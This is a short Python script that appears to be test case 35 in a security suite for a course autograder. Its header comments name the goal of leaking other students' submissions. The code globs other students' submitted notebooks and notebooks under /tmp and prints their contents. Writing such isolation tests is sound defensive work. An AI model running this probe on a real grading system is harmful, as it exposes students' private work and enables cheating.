# attack: 35
# title: other students' submissions are looked for
# success: their content stands in the output
# naive: leak
import glob
import os

found = ["@NEIGHBOUR@", *glob.glob("@COURSE@/submitted/*/*/*.ipynb")]
found += glob.glob("/tmp/**/*.ipynb", recursive=True)[:100]
for path in found:
    try:
        if os.path.isfile(path):  # opening a named pipe would wait for ever
            with open(path, errors="replace") as file:
                print(path, file.read()[:300_000], flush=True)
        else:
            print(os.path.basename(path), "is no file")
    except OSError as error:
        print(os.path.basename(path), error.errno)
